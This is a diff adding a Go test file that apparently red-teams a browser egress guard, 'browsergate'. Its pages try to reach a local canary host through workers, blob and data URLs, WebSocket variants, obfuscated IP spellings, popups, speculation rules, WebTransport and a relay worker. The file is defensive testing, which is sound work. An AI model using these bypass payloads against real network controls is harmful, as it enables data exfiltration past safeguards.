@@ -1,0 +1,549 @@
+package main
+
+// Review of issue 11 (live mode in the user's own browser context): pages of
+// the session try to reach the canary on 127.0.0.2 by paths the egress
+// suite may not cover. Each attack tags its canary URL with "r11-<tag>", so
+// the canary's log says which path got through.
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/chromedp/cdproto/runtime"
+	"github.com/chromedp/chromedp"
+	"github.com/chromedp/chromedp/remote"
+
+	"github.com/browsergate/browsergate/examples/demosite"
+)
+
+// r11Site serves the review's attack pages on an allowed site (127.0.0.1)
+// and its cross-site twin (127.0.0.3).
+type r11Site struct {
+	canary, ws, self, xsite, udp, self2, user string
+}
+
+func payloadJS(tag string) string {
+	return fmt.Sprintf(`try{fetch("{{C}}/r11-%[1]s-fetch",{mode:"no-cors"}).catch(()=>{})}catch(e){}
+try{new WebSocket("{{WS}}/ws/r11-%[1]s-ws")}catch(e){}
+try{if(typeof navigator.sendBeacon==="function")navigator.sendBeacon("{{C}}/r11-%[1]s-beacon","x")}catch(e){}
+`, tag)
+}
+
+const r11Head = `<!doctype html><meta charset=utf-8><title>r11</title><p id=status>start</p><script>function done(){document.getElementById('status').textContent='done'}</script>`
+
+func (s *r11Site) expand(body string) string {
+	return strings.NewReplacer("{{C}}", s.canary, "{{WS}}", s.ws, "{{S}}", s.self, "{{X}}", s.xsite, "{{U}}", s.udp, "{{S2}}", s.self2, "{{USER}}", s.user).Replace(body)
+}
+
+func (s *r11Site) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	tag := r.URL.Query().Get("tag")
+	js := func(body string) {
+		w.Header().Set("Content-Type", "text/javascript")
+		fmt.Fprint(w, s.expand(body))
+	}
+	page := func(body string) {
+		w.Header().Set("Content-Type", "text/html")
+		fmt.Fprint(w, s.expand(r11Head+body))
+	}
+	p := strings.TrimPrefix(r.URL.Path, "/")
+	switch p {
+	// --- scripts ---
+	case "w.js": // dedicated / shared worker body
+		js(payloadJS(tag) + `try{const es=new EventSource("{{C}}/r11-` + tag + `-es")}catch(e){}
+onconnect=e=>{e.ports[0].postMessage("hi")};postMessage("hi");`)
+	case "wn.js": // worker that starts a nested worker
+		js(`const n=new Worker("/w.js?tag=` + tag + `");n.onmessage=()=>postMessage("nested");postMessage("outer");`)
+	case "sw.js":
+		js(`self.addEventListener("install",e=>{` + payloadJS(tag+"-install") + `});
+self.addEventListener("activate",e=>{` + payloadJS(tag+"-activate") + `});
+self.addEventListener("message",e=>{` + payloadJS(tag+"-msg") + `});`)
+	case "relay.js": // a shared worker / service worker that sends what it is told
+		js(`function go(u,p){fetch(u,{mode:"no-cors"}).then(r=>p&&p.postMessage("fetch ok "+r.type),e=>p&&p.postMessage("fetch err "+e)); try{new WebSocket(u.replace(/^http/,"ws").replace(/\/(r11-)/,"/ws/$1"))}catch(e){p&&p.postMessage("ws err "+e)}}
+onconnect=e=>{const p=e.ports[0];p.onmessage=m=>{p.postMessage("got "+m.data);go(m.data,p)};p.start();p.postMessage("connected")};
+self.addEventListener("message",e=>go(e.data,e.source));
+self.addEventListener("install",e=>self.skipWaiting());
+self.addEventListener("activate",e=>e.waitUntil(clients.claim()));`)
+	// --- pages ---
+	case "payload":
+		page(`<script>` + payloadJS(tag) + `setTimeout(()=>{` + payloadJS(tag+"-late") + `done()},500)</script>`)
+	case "shw-blob":
+		page(`<script>const src=` + "`" + payloadJS("shw-blob") + `onconnect=e=>e.ports[0].postMessage("hi");` + "`" + `;
+try{const w=new SharedWorker(URL.createObjectURL(new Blob([src],{type:"text/javascript"})));w.port.start()}catch(e){document.body.append("ERR "+e)}
+setTimeout(done,1500)</script>`)
+	case "shw-data":
+		page(`<script>const src=` + "`" + payloadJS("shw-data") + `onconnect=e=>e.ports[0].postMessage("hi");` + "`" + `;
+try{const w=new SharedWorker("data:text/javascript,"+encodeURIComponent(src));w.port.start()}catch(e){document.body.append("ERR "+e)}
+setTimeout(done,1500)</script>`)
+	case "shw-same":
+		page(`<script>const w=new SharedWorker("/w.js?tag=shw-same");w.port.start();setTimeout(done,1500)</script>`)
+	case "shw-inner": // in a cross-site iframe
+		page(`<script>try{const w=new SharedWorker("/w.js?tag=` + tag + `");w.port.start()}catch(e){document.body.append("ERR "+e)}</script>`)
+	case "shw-xframe":
+		page(`<iframe src="{{X}}/shw-inner?tag=shw-xframe"></iframe><script>setTimeout(done,2500)</script>`)
+	case "sw-inner":
+		page(`<script>navigator.serviceWorker.register("/sw.js?tag=` + tag + `").then(r=>document.body.append("registered"),e=>document.body.append("ERR "+e))</script>`)
+	case "sw-xframe":
+		page(`<iframe src="{{X}}/sw-inner?tag=sw-xframe"></iframe><script>setTimeout(done,3000)</script>`)
+	case "dw":
+		page(`<script>new Worker("/w.js?tag=dw");setTimeout(done,1500)</script>`)
+	case "dw-nested":
+		page(`<script>new Worker("/wn.js?tag=dw-nested");setTimeout(done,2000)</script>`)
+	case "dw-blob":
+		page(`<script>const src=` + "`" + payloadJS("dw-blob") + "`" + `;new Worker(URL.createObjectURL(new Blob([src],{type:"text/javascript"})));setTimeout(done,1500)</script>`)
+	case "dw-inner":
+		page(`<script>new Worker("/w.js?tag=` + tag + `")</script>`)
+	case "dw-xframe":
+		page(`<iframe src="{{X}}/dw-inner?tag=dw-xframe"></iframe><script>setTimeout(done,2500)</script>`)
+	case "ws-srcdoc":
+		page(`<iframe srcdoc="<script>` + strings.ReplaceAll(payloadJS("ws-srcdoc"), `"`, `&quot;`) + `</script>"></iframe><script>setTimeout(done,1500)</script>`)
+	case "ws-aboutblank":
+		page(`<script>const f=document.createElement("iframe");document.body.append(f);
+try{new f.contentWindow.WebSocket("{{WS}}/ws/r11-ws-aboutblank-ws")}catch(e){}
+try{f.contentWindow.fetch("{{C}}/r11-ws-aboutblank-fetch",{mode:"no-cors"}).catch(()=>{})}catch(e){}
+setTimeout(done,1500)</script>`)
+	case "ws-xframe":
+		page(`<iframe src="{{X}}/payload?tag=ws-xframe"></iframe><script>setTimeout(done,2500)</script>`)
+	case "ws-stream":
+		page(`<script>try{const s=new WebSocketStream("{{WS}}/ws/r11-ws-stream");s.opened.then(()=>document.body.append("OPENED"),e=>document.body.append("ERR "+e))}catch(e){document.body.append("ERR "+e)}setTimeout(done,1500)</script>`)
+	case "ws-httpscheme":
+		page(`<script>try{new WebSocket("{{C}}/ws/r11-ws-httpscheme")}catch(e){document.body.append("ERR "+e)}setTimeout(done,1500)</script>`)
+	case "ws-spellings":
+		page(`<script>const port=new URL("{{C}}").port;
+for(const h of ["2130706434","0x7f.0.0.2","127.0.0.2.","[::ffff:127.0.0.2]","127.2","%31%32%37.0.0.2","0177.0.0.2","[::ffff:7f00:2]","127.0.0.02"]){
+ try{new WebSocket("ws://"+h+":"+port+"/ws/r11-ws-spellings-"+encodeURIComponent(h))}catch(e){document.body.append("ERR "+h+" "+e+" ")}}
+setTimeout(done,1500)</script>`)
+	case "webtransport":
+		page(`<script>try{const t=new WebTransport("https://{{U}}/r11-webtransport");t.ready.then(()=>document.body.append("READY"),e=>document.body.append("ERR "+e))}catch(e){document.body.append("ERR "+e)}setTimeout(done,2000)</script>`)
+	case "popup-noopener":
+		page(`<button id=go onclick="window.open('/payload?tag=popup-noopener','_blank','noopener');setTimeout(done,1500)">go</button>`)
+	case "popup-link":
+		page(`<a id=go href="/payload?tag=popup-link" target=_blank rel=noopener onclick="setTimeout(done,1500)">go</a>`)
+	case "popup-form":
+		page(`<form target=_blank action="/payload" onsubmit="setTimeout(done,1500)"><input name=tag value=popup-form><button id=go>go</button></form>`)
+	case "popup-popup":
+		page(`<button id=go onclick="window.open('/popper?tag=popup-popup');setTimeout(done,2500)">go</button>`)
+	case "popper":
+		page(`<script>const q=window.open("/payload?tag=` + tag + `");document.body.append(q?"opened":"blocked");
+const a=document.createElement("a");a.href="/payload?tag=` + tag + `-link";a.target="_blank";document.body.append(a);a.click();</script>`)
+	case "popup-inner": // a frame whose click opens a popup
+		page(`<style>body{margin:0}#b{width:100vw;height:100vh;display:block}</style><button id=b onclick="window.open('{{S}}/payload?tag=` + tag + `','_blank'` + map[bool]string{true: `,'noopener'`, false: ""}[r.URL.Query().Get("noopener") != ""] + `)">in frame</button>`)
+	case "popup-xframe":
+		page(`<iframe id=go style="width:300px;height:200px;border:0" src="{{X}}/popup-inner?tag=popup-xframe"></iframe><script>setTimeout(done,2500)</script>`)
+	case "popup-xframe-noopener":
+		page(`<iframe id=go style="width:300px;height:200px;border:0" src="{{X}}/popup-inner?tag=popup-xframe-noopener&noopener=1"></iframe><script>setTimeout(done,2500)</script>`)
+	case "popup-sameframe":
+		page(`<iframe id=go style="width:300px;height:200px;border:0" src="/popup-inner?tag=popup-sameframe"></iframe><script>setTimeout(done,2500)</script>`)
+	case "popup-viaframe":
+		page(`<iframe id=f src="/payload?tag=none"></iframe><button id=go onclick="document.getElementById('f').contentWindow.open('{{S}}/payload?tag=popup-viaframe');setTimeout(done,1500)">go</button>`)
+	case "popup-viaframe-noopener":
+		page(`<iframe id=f src="/payload?tag=none"></iframe><button id=go onclick="document.getElementById('f').contentWindow.open('{{S}}/payload?tag=popup-viaframe-noopener','_blank','noopener');setTimeout(done,1500)">go</button>`)
+	case "popup-viablank":
+		page(`<iframe id=f></iframe><button id=go onclick="document.getElementById('f').contentWindow.open('{{S}}/payload?tag=popup-viablank');setTimeout(done,1500)">go</button>`)
+	case "popup-onload-xframe": // no gesture: is the popup blocker on?
+		page(`<iframe src="{{X}}/opener-inner?tag=popup-onload-xframe"></iframe><script>setTimeout(done,2500)</script>`)
+	case "opener-inner":
+		page(`<script>const w=window.open("{{S}}/payload?tag=` + tag + `");document.body.append(w?"opened":"blocked")</script>`)
+	case "shw-samesite":
+		page(`<iframe src="{{S2}}/shw-inner?tag=shw-samesite"></iframe><script>setTimeout(done,2500)</script>`)
+	case "sw-samesite":
+		page(`<iframe src="{{S2}}/sw-inner?tag=sw-samesite"></iframe><script>setTimeout(done,3000)</script>`)
+	case "prerender-inscope":
+		page(`<script type=speculationrules>{"prerender":[{"source":"list","urls":["/payload?tag=prerender-inscope"]}]}</script><script>setTimeout(done,3000)</script>`)
+	case "specrules-prefetch":
+		page(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-prefetch-only"]}]}</script><script>setTimeout(done,3000)</script>`)
+	case "specrules-prerender":
+		page(`<script type=speculationrules>{"prerender":[{"source":"list","urls":["{{C}}/r11-specrules-prerender-only"]}]}</script><script>setTimeout(done,3000)</script>`)
+	case "user-sw-use": // the user's own page asks its SW to fetch the user's (out of scope) site
+		page(`<script>navigator.serviceWorker.onmessage=m=>document.body.append(" ["+m.data+"] ");navigator.serviceWorker.ready.then(r=>{r.active.postMessage("{{USER}}/user-sw-fetch");document.body.append("posted")})</script>`)
+	case "specrules":
+		page(`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{{C}}/r11-specrules-prefetch"]}],
+"prerender":[{"source":"list","urls":["{{C}}/r11-specrules-prerender","/payload?tag=specrules-prerender-inscope"]}]}</script>
+<link rel=prerender href="{{C}}/r11-link-prerender"><script>setTimeout(done,3000)</script>`)
+	case "shw-relay-use": // a session page talks to a shared worker that is already running
+		page(`<script>const w=new SharedWorker("/relay.js");w.port.onmessage=m=>document.body.append(" ["+m.data+"] ");w.port.start();
+w.port.postMessage("{{C}}/r11-shw-relay");setTimeout(done,1500)</script>`)
+	case "sw-relay-register": // the user's page registers the relay SW
+		page(`<script>navigator.serviceWorker.register("/relay.js").then(()=>navigator.serviceWorker.ready).then(()=>{document.body.append("READY")})</script>`)
+	case "sw-relay-use":
+		page(`<script>navigator.serviceWorker.onmessage=m=>document.body.append(" ["+m.data+"] ");navigator.serviceWorker.ready.then(r=>{r.active.postMessage("{{C}}/r11-sw-relay");document.body.append("posted")});setTimeout(done,1500)</script>`)
+	case "user-shw": // the user's page holds the relay shared worker
+		page(`<script>const w=new SharedWorker("/relay.js");w.port.onmessage=m=>document.body.append(m.data);w.port.start()</script>`)
+	default:
+		http.NotFound(w, r)
+	}
+}
+
+type r11Env struct {
+	f    *egressFixture
+	site *r11Site
+	port int // the user's Chromium DevTools port
+	udp  *atomic.Int64
+}
+
+// startR11 starts a user's Chromium (extra flags appended), browsergate
+// live in the user's context, and the review's sites.
+func startR11(t *testing.T, manifest string, chromiumFlags ...string) *r11Env {
+	t.Helper()
+	port := startChromiumFlags(t, chromiumFlags...)
+	f := startManifest(t, manifest, "live", fmt.Sprintf("http://127.0.0.1:%d", port))
+	s := &r11Site{canary: f.canaryTo, ws: "ws" + strings.TrimPrefix(f.canaryTo, "http")}
+	self, stop, err := serveOn("127.0.0.1:0", s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	x, stop2, err := serveOn("127.0.0.3:0", s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop2)
+	s.self, s.xsite = self, x
+	self2, stop3, err := serveOn("127.0.0.1:0", s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop3)
+	s.self2 = self2
+	// A UDP canary for QUIC (WebTransport).
+	udp, err := net.ListenPacket("udp", "127.0.0.2:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { udp.Close() })
+	var n atomic.Int64
+	go func() {
+		buf := make([]byte, 4096)
+		for {
+			if _, _, err := udp.ReadFrom(buf); err != nil {
+				return
+			}
+			n.Add(1)
+		}
+	}()
+	s.udp = udp.LocalAddr().String()
+	return &r11Env{f: f, site: s, port: port, udp: &n}
+}
+
+func startChromiumFlags(t testing.TB, extra ...string) int {
+	t.Helper()
+	userDir, err := os.MkdirTemp("", "browsergate-r11-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	args := append([]string{"--headless", "--no-sandbox", "--disable-gpu",
+		"--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
+		"--remote-debugging-address=127.0.0.1", "--remote-debugging-port=0", "--user-data-dir=" + userDir}, extra...)
+	args = append(args, "about:blank")
+	cmd := exec.Command("/usr/bin/chromium", args...)
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
+	if err := cmd.Start(); err != nil {
+		t.Fatalf("start chromium: %v", err)
+	}
+	t.Cleanup(func() {
+		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
+		cmd.Wait()
+		os.RemoveAll(userDir)
+	})
+	deadline := time.Now().Add(30 * time.Second)
+	for time.Now().Before(deadline) {
+		if data, err := os.ReadFile(filepath.Join(userDir, "DevToolsActivePort")); err == nil {
+			var port int
+			if _, err := fmt.Sscanf(string(data), "%d", &port); err == nil && port > 0 {
+				if resp, err := http.Get(fmt.Sprintf("http://127.0.0.1:%d/json/version", port)); err == nil {
+					resp.Body.Close()
+					return port
+				}
+			}
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	t.Fatal("chromium did not start")
+	return 0
+}
+
+// canaryFor lists what the canary saw for one tag.
+func (e *r11Env) canaryFor(tag string) []string {
+	var out []string
+	for _, s := range e.f.net.Seen() {
+		if strings.Contains(s, "r11-"+tag) {
+			out = append(out, s)
+		}
+	}
+	return out
+}
+
+// attack opens page on the allowed site, clicks #go if asked, waits for
+// "done" and a grace period, and reports what the canary saw for tag.
+func (e *r11Env) attack(t *testing.T, page, tag string, click bool, grace time.Duration) []string {
+	t.Helper()
+	f := e.f
+	text, refused := f.call(t, "egress.navigate", map[string]any{"url": e.site.self + "/" + page})
+	t.Logf("navigate %s refused=%v: %s", page, refused, firstLine(text))
+	if click && !refused {
+		text, refused := f.call(t, "egress.click", map[string]any{"selector": "#go"})
+		t.Logf("click refused=%v: %s", refused, strings.ReplaceAll(text, "\n", " | "))
+	}
+	text, refused = f.call(t, "egress.wait_for", map[string]any{"text": "done", "timeout_ms": 5000})
+	t.Logf("wait_for done refused=%v: %s", refused, strings.ReplaceAll(text, "\n", " | "))
+	time.Sleep(grace)
+	body, _ := f.call(t, "egress.snapshot", nil)
+	t.Logf("page: %s", strings.Join(strings.Fields(body), " "))
+	got := e.canaryFor(tag)
+	if len(got) > 0 {
+		t.Errorf("LEAK %s: the canary saw %q", tag, got)
+	} else {
+		t.Logf("HELD %s (canary total: %s)", tag, f.net)
+	}
+	return got
+}
+
+const r11Grace = 2 * time.Second
+
+// TestReview11AttackWorkers: shared workers (blob:, data:, same origin,
+// cross-site frame), a service worker of a cross-site frame, dedicated,
+// nested and blob workers, a worker in a cross-site frame.
+func TestReview11AttackWorkers(t *testing.T) {
+	t.Parallel()
+	e := startR11(t, egressManifest)
+	for _, c := range []struct{ page, tag string }{
+		{"shw-same", "shw-same"},
+		{"shw-blob", "shw-blob"},
+		{"shw-data", "shw-data"},
+		{"shw-xframe", "shw-xframe"},
+		{"sw-xframe", "sw-xframe"},
+		{"dw", "dw"},
+		{"dw-nested", "dw-nested"},
+		{"dw-blob", "dw-blob"},
+		{"dw-xframe", "dw-xframe"},
+	} {
+		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, r11Grace) })
+	}
+	t.Logf("canary overall: %s", e.f.net)
+}
+
+// TestReview11AttackSockets: WebSockets from frames and in other forms.
+func TestReview11AttackSockets(t *testing.T) {
+	t.Parallel()
+	e := startR11(t, egressManifest)
+	for _, c := range []struct{ page, tag string }{
+		{"ws-srcdoc", "ws-srcdoc"},
+		{"ws-aboutblank", "ws-aboutblank"},
+		{"ws-stream", "ws-stream"},
+		{"ws-httpscheme", "ws-httpscheme"},
+		{"ws-spellings", "ws-spellings"},
+		{"ws-xframe", "ws-xframe"},
+	} {
+		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, false, r11Grace) })
+	}
+	t.Logf("canary overall: %s", e.f.net)
+}
+
+// TestReview11AttackPopups: popups by every opener the guard may not
+// recognise.
+func TestReview11AttackPopups(t *testing.T) {
+	t.Parallel()
+	e := startR11(t, egressManifest)
+	for _, c := range []struct{ page, tag string }{
+		{"popup-noopener", "popup-noopener"},
+		{"popup-link", "popup-link"},
+		{"popup-form", "popup-form"},
+		{"popup-popup", "popup-popup"},
+		{"popup-sameframe", "popup-sameframe"},
+		{"popup-xframe", "popup-xframe"},
+		{"popup-xframe-noopener", "popup-xframe-noopener"},
+	} {
+		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, true, r11Grace) })
+	}
+	t.Logf("canary overall: %s", e.f.net)
+}
+
+// TestReview11AttackSpeculation: speculation rules and rel=prerender.
+func TestReview11AttackSpeculation(t *testing.T) {
+	t.Parallel()
+	e := startR11(t, egressManifest)
+	t.Run("specrules", func(t *testing.T) { e.attack(t, "specrules", "specrules", false, 3*time.Second) })
+	t.Run("link-prerender", func(t *testing.T) {
+		if got := e.canaryFor("link-prerender"); len(got) > 0 {
+			t.Errorf("LEAK link-prerender: %q", got)
+		}
+	})
+	t.Logf("canary overall: %s", e.f.net)
+}
+
+// TestReview11AttackWebTransport: QUIC is not HTTP over TCP; a Chromium as a
+// user runs it (QUIC on). Evidence is UDP datagrams at the canary address.
+func TestReview11AttackWebTransport(t *testing.T) {
+	t.Parallel()
+	e := startR11(t, egressManifest)
+	e.attack(t, "webtransport", "webtransport", false, r11Grace)
+	if n := e.udp.Load(); n > 0 {
+		t.Errorf("LEAK webtransport: the UDP canary on %s received %d datagram(s) (QUIC Initial)", e.site.udp, n)
+	} else {
+		t.Logf("webtransport: no UDP datagram at %s", e.site.udp)
+	}
+}
+
+// userTab opens a tab as the user (own DevTools connection) at u and
+// waits until want appears in its body.
+func (e *r11Env) userTab(t *testing.T, u, want string) (context.Context, func()) {
+	t.Helper()
+	alloc, cancel1 := remote.NewAllocator(context.Background(), fmt.Sprintf("http://127.0.0.1:%d", e.port))
+	user, cancel2 := chromedp.NewContext(alloc)
+	cancel := func() { cancel2(); cancel1() }
+	ctx, c3 := context.WithTimeout(user, 20*time.Second)
+	defer c3()
+	if err := chromedp.Do(ctx, chromedp.Navigate(u)); err != nil {
+		cancel()
+		t.Fatalf("user tab: %v", err)
+	}
+	if want != "" {
+		var body string
+		deadline := time.Now().Add(10 * time.Second)
+		for time.Now().Before(deadline) {
+			body, _ = chromedp.Run(ctx, chromedp.Evaluate[string](`document.body.innerText`))
+			if strings.Contains(body, want) {
+				break
+			}
+			time.Sleep(100 * time.Millisecond)
+		}
+		t.Logf("user tab %s: %q", u, body)
+	}
+	return user, cancel
+}
+
+// TestReview11AttackUserWorkers: a worker of the allowed site that was
+// already running when the session started (the user's tab on the same
+// site keeps it) is the user's to the guard; a session page talks to it.
+func TestReview11AttackUserWorkers(t *testing.T) {
+	t.Parallel()
+	// The user's browser and sites first, then the session.
+	e := startR11(t, egressManifest)
+	// Shared worker: the user's tab on the allowed site holds it.
+	_, cancelA := e.userTab(t, e.site.self+"/user-shw", "connected")
+	defer cancelA()
+	// Service worker: the user's tab registered it.
+	_, cancelB := e.userTab(t, e.site.self+"/sw-relay-register", "READY")
+	defer cancelB()
+	t.Run("shw-relay", func(t *testing.T) { e.attack(t, "shw-relay-use", "shw-relay", false, r11Grace) })
+	t.Run("sw-relay", func(t *testing.T) { e.attack(t, "sw-relay-use", "sw-relay", false, r11Grace) })
+	t.Logf("canary overall: %s", e.f.net)
+	t.Logf("daemon stderr:\n%s", e.f.stderr.String())
+}
+
+var _ = runtime.Evaluate
+var _ sync.Mutex
+
+// TestReview11AttackMore: popups whose opener is a subframe, workers of a
+// same-site frame on another port, speculation rules one by one.
+func TestReview11AttackMore(t *testing.T) {
+	t.Parallel()
+	e := startR11(t, egressManifest)
+	for _, c := range []struct {
+		page, tag string
+		click     bool
+	}{
+		{"popup-viaframe", "popup-viaframe", true},
+		{"popup-viaframe-noopener", "popup-viaframe-noopener", true},
+		{"popup-viablank", "popup-viablank", true},
+		{"popup-onload-xframe", "popup-onload-xframe", false},
+		{"shw-samesite", "shw-samesite", false},
+		{"sw-samesite", "sw-samesite", false},
+		{"prerender-inscope", "prerender-inscope", false},
+		{"specrules-prefetch", "specrules-prefetch-only", false},
+		{"specrules-prerender", "specrules-prerender-only", false},
+	} {
+		t.Run(c.page, func(t *testing.T) { e.attack(t, c.page, c.tag, c.click, r11Grace) })
+	}
+	t.Logf("canary overall: %s", e.f.net)
+}
+
+// TestReview11AttackWebTransportNoQUIC: the same with --disable-quic (as
+// the suite's user browser runs).
+func TestReview11AttackWebTransportNoQUIC(t *testing.T) {
+	t.Parallel()
+	e := startR11(t, egressManifest, "--disable-quic")
+	e.attack(t, "webtransport", "webtransport", false, r11Grace)
+	if n := e.udp.Load(); n > 0 {
+		t.Errorf("LEAK webtransport (--disable-quic): the UDP canary received %d datagram(s)", n)
+	}
+}
+
+// TestReview11AttackUserSWClaimed: the user's own service worker on an
+// in-scope origin, started during the session (the user opens the site in
+// a tab of their own), is taken for the session's: is the user's own
+// traffic then intercepted by the session's scope?
+func TestReview11AttackUserSWClaimed(t *testing.T) {
+	t.Parallel()
+	var mu sync.Mutex
+	var seen []string
+	userSite, stop, err := serveOn("127.0.0.4:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		seen = append(seen, r.URL.Path)
+		mu.Unlock()
+		fmt.Fprint(w, "ok")
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	e := startR11(t, egressManifest)
+	e.site.user = userSite
+	// The session is on the allowed site (its origin is now a session origin).
+	e.f.mustAllow(t, "egress.navigate", map[string]any{"url": e.site.self + "/payload?tag=none"})
+	// The user, in a tab of their own, opens the same site, whose service
+	// worker starts now, and asks it to fetch the user's other site.
+	_, cancelA := e.userTab(t, e.site.self+"/sw-relay-register", "READY")
+	defer cancelA()
+	start := time.Now()
+	_, cancelB := e.userTab(t, e.site.self+"/user-sw-use", "fetch")
+	defer cancelB()
+	t.Logf("user SW round in %v", time.Since(start))
+	time.Sleep(time.Second)
+	mu.Lock()
+	got := append([]string(nil), seen...)
+	mu.Unlock()
+	if len(got) == 0 {
+		t.Errorf("USER TOUCHED: the user's own service worker's fetch to %s never arrived (it was intercepted by the session's gate)", userSite)
+	} else {
+		t.Logf("user SW fetch arrived: %v", got)
+	}
+	text, _ := e.f.call(t, "egress.snapshot", nil)
+	t.Logf("session snapshot: %s", strings.ReplaceAll(text, "\n", " | "))
+}
+
+// TestReview11AttackControlRelay: without browsergate, does the relay
+// shared worker of a user's tab reach the canary when a second tab asks?
+func TestReview11AttackControlRelay(t *testing.T) {
+	t.Parallel()
+	port := startChromiumFlags(t)
+	nc, canaryURL, stop, err := demosite.ListenCanary("127.0.0.2:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer stop()
+	s := &r11Site{canary: canaryURL, ws: "ws" + strings.TrimPrefix(canaryURL, "http")}
+	self, stop2, err := serveOn("127.0.0.1:0", s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer stop2()
+	s.self = self
+	e := &r11Env{site: s, port: port}
+	_, c1 := e.userTab(t, self+"/user-shw", "connected")
+	defer c1()
+	_, c2 := e.userTab(t, self+"/shw-relay-use", "fetch")
+	defer c2()
+	time.Sleep(time.Second)
+	t.Logf("control canary: %s", nc)
+}
